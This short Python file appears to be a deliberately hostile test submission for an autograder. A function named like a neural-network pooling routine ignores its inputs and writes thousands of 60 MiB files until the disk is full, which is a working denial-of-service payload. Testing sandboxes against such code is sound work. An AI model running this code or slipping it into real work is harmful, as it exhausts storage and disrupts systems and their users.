"""Writes files up to the limit, until the disk is full."""
# loses: pool_forward=15 error


def pool_forward(A_prev, hparameters, mode="max"):
    block = bytes(2**20)
    for number in range(10_000):
        with open(f"file{number}", "wb") as file:
            for _ in range(60):
                file.write(block)
    return 0, 0
